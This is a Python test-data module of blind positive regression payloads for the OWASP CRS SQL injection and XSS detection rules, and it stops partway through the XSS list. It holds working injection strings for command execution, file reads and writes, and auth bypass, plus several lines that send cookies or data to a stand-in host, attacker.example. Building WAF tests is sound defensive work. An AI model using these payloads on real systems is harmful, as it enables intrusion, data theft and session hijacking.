"""Blind examples, a thirteenth author's positive regression tests for the CRS SQL injection and XSS titles
(CRS 3.3.4 request rules at paranoia levels 1 and 2, and the request-rule titles CRS 4.x added), written from
the titles alone, with benign requests that carry the same words innocently.

The angle: for each detection title, the tests a careful rule author writes as the rule's positive tests: the
canonical attack the title names, then one test per alternative of the title's family (keywords, functions,
operators, tags, attributes, schemes, dialects), then variants a good rule must still catch (other quoting,
casing, whitespace and comment substitutes, concatenation, URL and double URL encoding, HTML entities, unicode
escapes in JSON). Each payload is written as it sits in a real request: after the legitimate data of the same
value (a search term, a user id, a file name, a sentence), wrapped in the value's own syntax (a JSON string, a
list element, a filter object, a quoted CSV cell, an XML element, a multipart part). 5 to 8 payloads a title.

Families and sub-families (one sub-family per title, kebab-case from the title):
- sqli: sqli-libinjection, sqli-common-db-names, sqli-sleep-benchmark, sqli-conditional-sleep, sqli-mssql-exec,
  sqli-integer-overflow, sqli-conditional, sqli-charset-switch-dos, sqli-match-merge-execute,
  sqli-union-select-from, sqli-pg-sleep-waitfor-shutdown, sqli-mongodb, sqli-stored-procedure, sqli-udf-ddl,
  sqli-concatenated-sqllfi, sqli-mysql-inline-comment, sqli-injection-testing, sqli-operator, sqli-tautology,
  sqli-function-names, sqli-auth-bypass-1, sqli-comment-space-obfuscation, sqli-chained-1, sqli-auth-bypass-2,
  sqli-comments-conditions-char, sqli-chained-2, sqli-classic-probing-1, sqli-auth-bypass-3, sqli-alter-union,
  sqli-classic-probing-2, sqli-attack-942380, sqli-attack-942390, sqli-attack-942400, sqli-attack-942410,
  sqli-attack-942470, sqli-attack-942480, sqli-special-char-anomaly, sqli-comment-sequence, sqli-hex-encoding,
  sqli-ticks-backticks, and the 4.x titles sqli-json-based, sqli-mysql-scientific-notation,
  sqli-auth-bypass-split-query, sqli-auth-bypass-4.
- xss: xss-libinjection, xss-script-tag, xss-event-handler, xss-attribute-vector, xss-javascript-uri,
  xss-noscript-html-injection, xss-noscript-attribute-injection, xss-node-validator-blacklist, xss-ie-style-tag,
  xss-ie-vmlframe, xss-ie-obfuscated-javascript, xss-ie-obfuscated-vbscript, xss-ie-embed-tag,
  xss-ie-import-implementation, xss-ie-meta-http-equiv, xss-ie-meta-charset, xss-ie-link-href, xss-ie-base-href,
  xss-ie-applet-tag, xss-ie-object-tag, xss-us-ascii-malformed, xss-utf7, xss-jsfuck, xss-js-global-variable,
  xss-libinjection-pl2, xss-disallowed-attributes, xss-html-tag-handler, xss-ie-string-breakout-location,
  xss-ie-string-breakout-property, xss-angularjs-csti, and the 4.x titles xss-javascript-method,
  xss-js-function-without-parentheses.
(The PHP titles are skipped, as the brief says.)

Placements: every payload is sent twice. Once to our real routes, rotating over: query of /api/users (browser
encoded), form of /admin/users/search with csrf_token (now and then /me/settings), JSON of /api/users (a plain
field, a list element, a filter object, a quoted CSV cell; now and then PATCH /api/users/42), cookie, the
User-Agent, the Referer, X-Forwarded-For, a parameter name, an XML body, a multipart field, a multipart file
name, the URL path. Once the way a WAF regression suite sends it ("rs-" placements): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, a form body, a JSON body, an XML body, a raw form-typed body
that is not key=value, or in the User-Agent, the Referer, a custom header or a cookie. Pre-encoded payloads (URL,
double URL) go only where a server decodes them; payloads meant for JSON unicode escapes go only into JSON bodies.

Authorship and independence: every payload and benign text was written for this set from general knowledge of
SQL dialects, browsers and the detection titles alone; no WAF rule, engine code, ruleset regression test,
public payload list or other blind set was read. The set was measured once through the real stack on unchanged
code and not changed afterwards. Deterministic (no clock, no randomness: tokens derive from sha256 of the index).
"""

from __future__ import annotations

import hashlib
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "hundredfifth"

# A payload: its text, or (text, encoding). Encodings: "url" the text is already percent-encoded as it goes on
# the wire (URL or double URL); "json-u" the text goes into JSON with its punctuation as \\uXXXX escapes; "qs" the
# text is a raw query-string / form fragment (key=value pairs); "jsondoc" the text is a whole JSON body.
Payload = str | tuple[str, str]

SQLI: dict[str, list[Payload]] = {
    # 942100 SQL Injection Attack Detected via libinjection
    "sqli-libinjection": [
        "laptop' UNION SELECT username, password FROM users-- -",
        "42 AND 1=1 UNION ALL SELECT NULL,NULL,version()-- ",
        "jdoe@example.com' OR '1'='1",
        "17); DROP TABLE orders;--",
        "Berlin' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- x",
        ("running%20shoes%27%20OR%201%3D1--%20", "url"),
        ("smith' or '1'='1'-- ", "json-u"),
    ],
    # 942140 Common DB Names Detected
    "sqli-common-db-names": [
        "books' UNION SELECT table_name,2 FROM information_schema.tables-- -",
        "1 UNION SELECT name,2 FROM master..sysdatabases--",
        "admin' AND (SELECT COUNT(*) FROM mysql.user)>0-- ",
        "5 UNION SELECT sql,name FROM sqlite_master--",
        "x' UNION SELECT usename,passwd FROM pg_catalog.pg_shadow--",
        "1 AND 1=(SELECT COUNT(*) FROM MSysAccessObjects)",
        "9/**/UNION/**/SELECT/**/column_name/**/FROM/**/INFORMATION_SCHEMA.COLUMNS",
        "3 UNION SELECT processlist_user,2 FROM performance_schema.threads",
    ],
    # 942160 blind sqli tests using sleep() or benchmark()
    "sqli-sleep-benchmark": [
        "jsmith' AND SLEEP(5)-- -",
        "1 AND BENCHMARK(5000000,MD5(0x41))",
        "1'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "42 and sleep (10)",
        "(select*from(select(sleep(20)))a)",
        "invoice-2024' || benchmark(10000000,sha1('x'))#",
        ("id%27%20AND%20SLEEP%285%29--%20", "url"),
    ],
    # 942170 benchmark and sleep injection attempts including conditional queries
    "sqli-conditional-sleep": [
        "1 AND IF(1=1,SLEEP(5),0)",
        "abc' and if(length(database())>5,sleep(3),1) and 'a'='a",
        "1;SELECT IF((SELECT COUNT(*) FROM users)>0,SLEEP(5),0)",
        "2 UNION SELECT IF(ASCII(SUBSTR(user(),1,1))>100,BENCHMARK(3000000,MD5(1)),NULL)",
        "x' AND (SELECT 7 FROM (SELECT IF(SUBSTRING(version(),1,1)='8',SLEEP(5),1))t)-- ",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 1 END)",
        "news';select if(1,sleep(4),0)#",
    ],
    # 942190 MSSQL code execution and information gathering attempts
    "sqli-mssql-exec": [
        "1; EXEC master..xp_cmdshell 'ping -n 5 10.0.0.1'--",
        "jdoe'; exec xp_cmdshell 'whoami';--",
        "x' UNION SELECT @@version,NULL--",
        "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--",
        "1;exec master.dbo.xp_dirtree '\\\\attacker.example\\share'--",
        "10 UNION SELECT db_name(),host_name()--",
        "1'; EXECUTE sp_executesql N'SELECT name FROM sys.databases';--",
        "1 AND 1=CONVERT(int,@@servername)--",
    ],
    # 942220 integer overflow attacks (skipfish) and the "magic number" crash
    "sqli-integer-overflow": [
        "2147483648",
        "4294967296",
        "-2147483649",
        "9223372036854775808",
        "18446744073709551616",
        "2.2250738585072011e-308",
        "0.22250738585072011e-307",
        "3.0.00738585072007e-308",
    ],
    # 942230 conditional SQL injection attempts
    "sqli-conditional": [
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END=1",
        "x' AND IF(1=1,'a','b')='a",
        "7) AND IFNULL(ASCII(SUBSTRING((SELECT user()),1,1)),0)>64-- ",
        "1 AND (SELECT CASE WHEN (SUBSTRING(password,1,1)='a') THEN 1/0 ELSE 1 END FROM users WHERE id=1)=1",
        "Widget' OR IIF(1=1,1,0)=1-- ",
        "1 OR DECODE(1,1,1,0)=1",
        "1 AND NULLIF(1,2) IS NOT NULL",
    ],
    # 942240 MySQL charset switch and MSSQL DoS attempts
    "sqli-charset-switch-dos": [
        "1'; ALTER DATABASE shop CHARACTER SET gbk;--",
        "x'; ALTER TABLE users CONVERT TO CHARACTER SET latin1;--",
        "1'; waitfor delay '0:0:5'--",
        "jane\"; WAITFOR TIME '23:59:59'--",
        "x';x: goto x--",
        "report`; waitfor delay '00:00:10'--",
        ("%bf%27%20OR%201%3D1--%20", "url"),
    ],
    # 942250 MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    "sqli-match-merge-execute": [
        "1' AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)-- ",
        "laptop') UNION SELECT body FROM posts WHERE MATCH (body) AGAINST ('password')-- ",
        "1; MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) WHEN MATCHED THEN UPDATE SET role='a'--",
        "x'; MERGE accounts AS t USING staging AS s ON 1=1 WHEN MATCHED THEN DELETE;--",
        "1' || EXECUTE IMMEDIATE 'DROP TABLE audit'--",
        "1; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;",
        "smith'; execute   immediate 'select 1 from dual'--",
    ],
    # 942270 basic sql injection, common attack string for mysql, oracle and others
    "sqli-union-select-from": [
        "shoes' UNION SELECT 1,2,3 FROM dual-- ",
        "-1 union all select username,password from users",
        "1 UnIoN SeLeCt null,table_name FrOm information_schema.tables",
        ("1%20union%20select%20*%20from%20accounts", "url"),
        "1 union distinct select email,2 from customers limit 1",
        "x' union (select pass from admin)-- ",
        "1\nunion\tselect\nlogin\tfrom\nmembers",
    ],
    # 942280 Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    "sqli-pg-sleep-waitfor-shutdown": [
        "1;SELECT pg_sleep(10)--",
        "x' AND 1=(SELECT 1 FROM pg_sleep(5))-- ",
        "1'; WAITFOR DELAY '0:0:10'--",
        "1; shutdown with nowait;--",
        "admin'; SHUTDOWN;--",
        "1 || pg_sleep(5)",
        "1) waitfor   delay '00:00:05'--",
    ],
    # 942290 basic MongoDB SQL injection attempts
    "sqli-mongodb": [
        ("username[$ne]=x&password[$ne]=x", "qs"),
        ("email[$regex]=%5Eadm&role=user", "qs"),
        ("age[$gt]=&sort=name", "qs"),
        ("role[$in][]=admin&role[$in][]=root", "qs"),
        ("status[$nin][]=banned&status[$exists]=true", "qs"),
        ('{"username": "admin", "password": {"$ne": ""}}', "jsondoc"),
        ('{"$where": "this.credits == this.debits || sleep(5000)"}', "jsondoc"),
        ('{"email": {"$regex": ".*"}, "password": {"$exists": true}, "remember": false}', "jsondoc"),
    ],
    # 942320 MySQL and PostgreSQL stored procedure/function injections
    "sqli-stored-procedure": [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "1; DECLARE @x varchar(200); SET @x=0x73656c656374; EXEC(@x)--",
        "x'; CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;--",
        "1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE 'c' STRICT;--",
        "'; exec(@cmd)--",
        "1;DO $$ BEGIN PERFORM pg_sleep(1); END $$;--",
        "1; CREATE PROCEDURE p() BEGIN SELECT 1; END;--",
        "x';DECLARE c CURSOR FOR SELECT name FROM sysobjects;OPEN c;--",
    ],
    # 942350 MySQL UDF injection and other data/structure manipulation attempts
    "sqli-udf-ddl": [
        "1; CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so';--",
        "x'; SELECT sys_exec('id');--",
        "1'; DROP TABLE users;--",
        "1; INSERT INTO users (login, role) VALUES ('eve','admin')--",
        "7; UPDATE users SET role='admin' WHERE id=7--",
        "1'; DELETE FROM sessions;--",
        "1; ALTER TABLE users ADD COLUMN backdoor int;--",
        "1; TRUNCATE TABLE audit_log--",
    ],
    # 942360 concatenated basic SQL injection and SQLLFI attempts
    "sqli-concatenated-sqllfi": [
        "1' UNION SELECT LOAD_FILE('/etc/passwd'),2-- ",
        "1 UNION SELECT 'x',2 INTO OUTFILE '/var/www/html/s.php'-- ",
        "x' UNION SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/u.so'-- ",
        "1) UNION ALL SELECT user,password FROM mysql.user#",
        "9'; SELECT * FROM users --",
        "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "') SELECT load_file(0x2f6574632f706173737764)-- ",
    ],
    # 942500 MySQL in-line comment detected
    "sqli-mysql-inline-comment": [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "admin'/*!or*/1=1-- ",
        "x/*!12345UnIoN*//*!12345sElEcT*/1,user()",
        "5 /*! and */ 1=1",
        ("1%2F%2A%2150000union%2A%2F%2F%2A%2150000select%2A%2F1", "url"),
        "1/*!32302 AND 1=0*/",
        "bob'/*!AND*/'1'='1",
    ],
    # 942110 Common Injection Testing Detected
    "sqli-injection-testing": [
        "laptop'",
        "12\"",
        "';",
        "'''",
        "report`",
        ("shoes%27", "url"),
        ("42%2527", "url"),
    ],
    # 942120 SQL Operator Detected
    "sqli-operator": [
        "admin' AND password RLIKE '^a'-- ",
        "x' OR username REGEXP '^ad'-- ",
        "1 XOR 1",
        "jo' AND email LIKE '%@corp.com'-- ",
        "1 OR 2 BETWEEN 1 AND 3",
        "1 AND 1<=>1",
        "x' SOUNDS LIKE 'x",
        "10 AND id NOT IN (0)",
    ],
    # 942130 SQL Tautology Detected
    "sqli-tautology": [
        "1 OR 1=1",
        "x' OR 'a'='a",
        "admin' or 'x'<>'y'--",
        "1 || 2=2",
        "jdoe\" or \"1\"=\"1",
        "1 AND 7=7",
        ("%27%20or%20%271%27%3D%271", "url"),
        "books' oR 'abc'='abc",
    ],
    # 942150 SQL Injection Attack (SQL function names)
    "sqli-function-names": [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "x' AND LENGTH(database())>3-- ",
        "1 UNION SELECT GROUP_CONCAT(table_name),2 FROM information_schema.tables",
        "1 AND ORD(MID(user(),1,1))>64",
        "1 AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
        "8 AND SUBSTR(@@version,1,1)=5",
        "x' and hex ( user() )>0-- ",
        "1 AND UTL_INADDR.get_host_name((SELECT user FROM dual)) IS NULL",
    ],
    # 942180 basic SQL authentication bypass attempts 1/3
    "sqli-auth-bypass-1": [
        "admin' --",
        "admin' #",
        "admin'/*",
        "' or 1=1--",
        "admin') or ('1'='1",
        "\" or \"\"=\"",
        "administrator\")--",
        "1' or 1 --",
    ],
    # 942200 MySQL comment-/space-obfuscated injections and backtick termination
    "sqli-comment-space-obfuscation": [
        "1'/**/OR/**/1=1#",
        "1+union/**/select/**/1,2",
        "users`) OR 1=1-- ",
        ("x%27%0Aor%0A1%3D1--%0A", "url"),
        "1'/*foo*/and/*bar*/'1'='1",
        "admin`#",
        "id`=1 or `1`=`1",
        "1,(select/**/1)",
    ],
    # 942210 chained SQL injection attempts 1/2
    "sqli-chained-1": [
        "1' AND 1=1 AND 'a'='a",
        "jdoe@example.com' || user_id=1-- ",
        "1;select * from users",
        "3 && id=3",
        "x' xor role='admin'-- ",
        "1 div 1=1",
        "5 or user_id like 5",
    ],
    # 942260 basic SQL authentication bypass attempts 2/3
    "sqli-auth-bypass-2": [
        "admin' AND username LIKE 'admin%'-- ",
        "x' or uname like '%",
        "' or 2 between 1 and 3--",
        "jsmith\" OR \"a\" IS NOT NULL--",
        "' OR user_id > 0 --",
        "admin' aND 'x' in ('x')-- ",
        "guest' or login=login-- ",
    ],
    # 942300 MySQL comments, conditions and ch(a)r injections
    "sqli-comments-conditions-char": [
        "1 AND CHAR(97)=CHAR(97)",
        "1) and (select char(65)) is not null#",
        "x' AND CHR(65)||CHR(66)='AB'--",
        "5' OR 1=1 #",
        "1 and (1) is not null--",
        "x') ) OR 1=1 LIMIT 1-- ",
        "1 UNION SELECT CONCAT(CHAR(115),CHAR(101),CHAR(108))",
    ],
    # 942310 chained SQL injection attempts 2/2
    "sqli-chained-2": [
        "1 AND (SELECT username FROM users LIMIT 1)='admin'",
        "1 OR id IN (SELECT id FROM admins)",
        "x' AND (select substring(password,1,1) from users where id=1)='a'-- ",
        "1 AND 1 IN (1,2,3)",
        "x');SELECT * FROM users;--",
        "1 or exists(select 1)",
        "report' and (select count(*) from orders)>0 and ''='",
    ],
    # 942330 classic SQL injection probings 1/3
    "sqli-classic-probing-1": [
        "' or 1",
        "\" or 0",
        "x' or '1",
        "1' and 0",
        "\\x27 or 1=1",
        "'\"",
        "x' like 1",
        "' between 1",
    ],
    # 942340 basic SQL authentication bypass attempts 3/3
    "sqli-auth-bypass-3": [
        "admin' 1--",
        "x'0#",
        "1 AND user REGEXP('^adm')",
        "1 in (select id from users)",
        "x' or name sounds like 'adm'",
        "1 and id=0x1",
        "bob' 1 -- -",
    ],
    # 942361 basic SQL injection based on keyword alter or union
    "sqli-alter-union": [
        "laptop'union all select 1,2",
        "bob' union select password from users--",
        "x\" alter table users drop column email--",
        "name` union select 1",
        "10' ALTER USER root IDENTIFIED BY 'x'--",
        "1) union (select 1)",
        "\"union select 1",
    ],
    # 942370 classic SQL injection probings 2/3
    "sqli-classic-probing-2": [
        "x'*1 or 1='1",
        "1'-'0",
        "abc'+'",
        "'||'",
        "0'^'0",
        "x' - 1 - '",
        "1' % '1",
    ],
    # 942380 SQL Injection Attack
    "sqli-attack-942380": [
        "1 ORDER BY 10-- ",
        "x' GROUP BY id HAVING 1=1--",
        "1 HAVING 1=1",
        "1 AND EXISTS(SELECT * FROM users)",
        "1' ORDER BY 1,2,3#",
        "1 group by username having count(*)>1--",
        "x' AND 1=1 ORDER BY 3-- -",
    ],
    # 942390 SQL Injection Attack
    "sqli-attack-942390": [
        "1 or 3=3",
        "x' or 'ab'='ab",
        "1 xor 1>0",
        "jdoe' OR 'x' LIKE 'x",
        "1 or 'z'>'a'",
        "test\" OR 1<2--",
        "5 Or 0<1",
    ],
    # 942400 SQL Injection Attack
    "sqli-attack-942400": [
        "1 and 2>1",
        "x' and 'b'<'c",
        "1 AND 5=5",
        "x' and 'a' like 'a",
        "name\" and \"1\"=\"1",
        "7 and 9>=3",
    ],
    # 942410 SQL Injection Attack
    "sqli-attack-942410": [
        "1 AND CAST(version() AS int)=1",
        "1 OR BIN(1)=1",
        "1 AND CONV(10,10,36)='a'",
        "x' AND LOWER(user())='root'-- ",
        "1 OR COALESCE(NULL,1)=1",
        "1 AND UNHEX(HEX(user()))='root'",
        "1 AND SOUNDEX('a')='A000'",
        "x' AND cHaR(65)='A",
    ],
    # 942470 SQL Injection Attack
    "sqli-attack-942470": [
        "1; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services','x'--",
        "1 AND 1=UTL_HTTP.request('http://attacker.example/'||user)",
        "1;SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=10.0.0.9;uid=sa;pwd=x','select 1')--",
        "x' union select name,1 from sysobjects--",
        "1; exec sp_addlogin 'eve','Pa55'--",
        "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)",
        "1; DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell',@o OUT--",
        "x' AND 1=(SELECT COUNT(*) FROM syscolumns)--",
    ],
    # 942480 SQL Injection Attack
    "sqli-attack-942480": [
        "1 union select password from users",
        "x'; delete from carts where 1=1--",
        "1; insert into admins values ('eve')--",
        "1; update users set email='x@attacker.example'--",
        "x' and @@version like '8%'--",
        "1 AND DBMS_XMLGEN.getxml('select 1 from dual') is not null",
        "1; select * from users where 'a'='a'",
    ],
    # 942430 Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    "sqli-special-char-anomaly": [
        "x'))))))))))))--",
        "'\"`;)(-+=*/<>|&",
        "1'||'1'||'1'||'1'||'1'='1",
        "((((((((((((1))))))))))))",
        "name');--+<>*&^%$#@!",
        "a'='a'='a'='a'='a'='a'='a",
        "id=1';/**/--/**/#!@$%",
    ],
    # 942440 SQL Comment Sequence Detected
    "sqli-comment-sequence": [
        "admin'--",
        "1;--",
        "x'/*",
        "5#",
        "laptop' -- -",
        "user'--+",
        "1/*comment*/",
        "x' ;-- hello",
    ],
    # 942450 SQL Hex Encoding Identified
    "sqli-hex-encoding": [
        "0x61646d696e",
        "x' AND user=0x726f6f74-- ",
        "1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)",
        "X'61646D696E'",
        "1 OR name=0x41646D696E",
        "1;SET @s=0x53454c45435420404076657273696f6e;PREPARE x FROM @s;EXECUTE x",
        "admin' or password=0x70617373776f7264-- ",
    ],
    # 942510 SQLi bypass attempt by ticks or backticks detected
    "sqli-ticks-backticks": [
        "x`or`1=1",
        "`x`=`x`",
        "1 and `id`>0",
        "name`) OR (`1`=`1",
        "'`or`'",
        "1 `union` select 1",
        "jo`||`1",
    ],
    # 4.x: JSON-Based SQL Injection
    "sqli-json-based": [
        "1 OR '{\"a\":2}'::jsonb @> '{\"a\":2}'::jsonb",
        "1 AND JSON_EXTRACT('{\"id\":1}','$.id')=1",
        "x' OR '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--",
        "1 or json_depth('{}') != 2511",
        "1 OR '{\"x\":1}'::json->>'x'='1'",
        "1 AND JSON_LENGTH('{}')<=8896 UNION SELECT 1,2",
        "1 or jsonb_typeof('{}')='object'",
    ],
    # 4.x: MySQL Scientific Notation payload detected
    "sqli-mysql-scientific-notation": [
        "1 1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e) = 70 or'1'='2",
        "x' or 1.e(1) or '1'='1",
        "1.e1union select 1,2",
        "admin'1.e(1)or'1'='1",
        "0.0e0union all select user()",
        "2 1e0union select 1",
        "1.e(ascii(user()))>1",
    ],
    # 4.x: SQL Authentication bypass (split query)
    "sqli-auth-bypass-split-query": [
        "admin';-- ",
        "*/ OR '1'='1",
        "admin';#",
        "root\";--",
        "x');--",
        "admin' ;  --",
        "support@example.com';--",
    ],
    # 4.x: Detects basic SQL authentication bypass attempts 4/4
    "sqli-auth-bypass-4": [
        "admin' or 'x",
        "jdoe\" and \"",
        "x' or name",
        "x` or 1",
        "abc' OR id",
        "user' or true--",
        "support' having 1=1--",
    ],
}

XSS: dict[str, list[Payload]] = {
    # 941100 XSS Attack Detected via libinjection
    "xss-libinjection": [
        "Great post!<script>alert(1)</script>",
        "avatar.png\"><img src=x onerror=alert(document.domain)>",
        "<svg/onload=alert(1)>",
        "\"><iframe src=javascript:alert(1)>",
        "<body onload=alert('XSS')>",
        ("%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "url"),
        ("Thanks!<img src=x onerror=alert(1)>", "json-u"),
    ],
    # 941110 XSS Filter - Category 1: Script Tag Vector
    "xss-script-tag": [
        "hello <script>alert(document.cookie)</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<script type=\"text/javascript\">fetch('//attacker.example/?c='+document.cookie)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<ScRiPt\n>alert(1)</sCrIpT>",
        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "url"),
        ("</title><script>alert(1)</script>", "json-u"),
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
    # 941120 XSS Filter - Category 2: Event Handler Vector
    "xss-event-handler": [
        "John\" onmouseover=\"alert(1)",
        "<img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<svg onload\n=alert(1)>",
        "' onfocus='alert(1)' autofocus='",
        "<div onpointerenter=alert(1)>hover</div>",
        "<video><source onerror=\"javascript:alert(1)\"></video>",
    ],
    # 941130 XSS Filter - Category 3: Attribute Vector
    "xss-attribute-vector": [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">click</text></a></svg>",
        "<form><button formaction=javascript:alert(1)>Submit</button></form>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<style>@import 'http://attacker.example/x.css';</style>",
        "<html xmlns:xss><?import namespace=\"xss\" implementation=\"http://attacker.example/x.htc\">",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://attacker.example/x.dtd\">]><r>&x;</r>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    ],
    # 941140 XSS Filter - Category 4: Javascript URI Vector
    "xss-javascript-uri": [
        "<div style=\"background:url(javascript:alert(1))\">",
        "<a href=\"javascript:alert(document.cookie)\">my site</a>",
        "<p style=\"color:red;background-image:url(javascript:alert(1))\">hi</p>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "javascript://\nalert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<table background=\"javascript:alert(1)\">",
        "<li style=\"list-style:url(javascript:alert(1))\">",
    ],
    # 941160 NoScript XSS InjectionChecker: HTML Injection
    "xss-noscript-html-injection": [
        "<iframe src=//attacker.example/phish width=100%>",
        "<object data=//attacker.example/x.swf>",
        "<embed src=//attacker.example/x.swf>",
        "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
        "<base href=//attacker.example/>",
        "<link rel=import href=//attacker.example/x.html>",
        "<form action=//attacker.example/login><input name=pw type=password>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
    # 941170 NoScript XSS InjectionChecker: Attribute Injection
    "xss-noscript-attribute-injection": [
        "javascript:alert(document.cookie)",
        "javascript:eval(name)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "@import url(//attacker.example/x.css);",
        "-moz-binding:url(//attacker.example/xss.xml#x)",
        "javascript:\\u0061lert(1)",
        "https://app.example.com/\" style=\"x:expression(alert(1))",
    ],
    # 941180 Node-Validator Blacklist Keywords
    "xss-node-validator-blacklist": [
        "x\";document.write('<img src=//attacker.example/'+document.cookie+'>');//",
        "';window.location='//attacker.example/?c='+document.cookie;//",
        "this.parentNode.removeChild(this)",
        "el.innerHTML='<b>owned</b>'",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "document.cookie",
    ],
    # 941190 IE XSS Filters (style tag)
    "xss-ie-style-tag": [
        "<style>@import'//attacker.example/x.css';</style>",
        "<STYLE>body{background:url(\"javascript:alert(1)\")}</STYLE>",
        "<style>*{x:expression(alert(1))}</style>",
        "<style>li{list-style-image:url(javascript:alert(1))}</style>",
        "<style>@\\69mport '//attacker.example/x.css';</style>",
        "<style type=text/css>a{color&#58;expression(alert(1))}</style>",
        "<style>div{behavior:url(//attacker.example/x.htc)}</style>",
    ],
    # 941200 IE XSS Filters (VML frame)
    "xss-ie-vmlframe": [
        "<v:vmlframe src=\"//attacker.example/x.vml#xss\"></v:vmlframe>",
        "<x:vmlframe src=foo.vml>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml#a\">",
        "<V:VMLFRAME/SRC=//attacker.example/a.vml#x>",
        "<v:vmlframe style=\"behavior:url(#default#VML)\" src = \"//attacker.example/b.vml#c\">",
        "<vml:vmlframe src=data:x>",
    ],
    # 941210 IE XSS Filters (obfuscated javascript: scheme)
    "xss-ie-obfuscated-javascript": [
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<iframe src=\"&#x6A;avascript:alert(1)\">",
        "<img src=\"j&#x61;vascript:alert(1)\">",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    ],
    # 941220 IE XSS Filters (obfuscated vbscript: scheme)
    "xss-ie-obfuscated-vbscript": [
        "<a href=\"vbscript:MsgBox(1)\">x</a>",
        "<a href=\"&#118;&#98;script:MsgBox(1)\">x</a>",
        "<img src=\"vbs&#x09;cript:msgbox(1)\">",
        "VBSCRIPT:Execute(\"MsgBox 1\")",
        "<iframe src=\"v&#x62;script:msgbox(document.cookie)\">",
        "<a href=\"vb\tscript:alert(1)\">x</a>",
    ],
    # 941230 IE XSS Filters (embed)
    "xss-ie-embed-tag": [
        "<embed src=\"//attacker.example/x.swf\">",
        "<EMBED TYPE=\"image/svg+xml\" SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<embed/src=//attacker.example/x.swf>",
        "<embed code=\"//attacker.example/x.class\">",
        "<embed+src=javascript:alert(1)>",
        "<embed allowscriptaccess=always type=application/x-shockwave-flash src=//attacker.example/x.swf>",
    ],
    # 941240 IE XSS Filters (import implementation)
    "xss-ie-import-implementation": [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import namespace=\"x\" implementation=\"//attacker.example/x.htc\">",
        "<html xmlns:t><?import namespace=t implementation=#default#time2>"
        "<t:set attributeName=innerHTML to=XSS&lt;img/src=x/onerror=alert(1)&gt;>",
        "<?IMPORT implementation = \"x.htc\">",
        "<?import/implementation=//attacker.example/a.htc>",
        "<?import namespace=v implementation=\"#default#VML\">",
    ],
    # 941250 IE XSS Filters (meta http-equiv)
    "xss-ie-meta-http-equiv": [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"sessionid=attacker\">",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
        "<meta http-equiv=&#82;efresh content=\"0;url=//attacker.example\">",
        "<meta/http-equiv=refresh content=0;url=//attacker.example>",
        "<meta http-equiv='refresh' content='0; url=data:text/html,<script>alert(1)</script>'>",
    ],
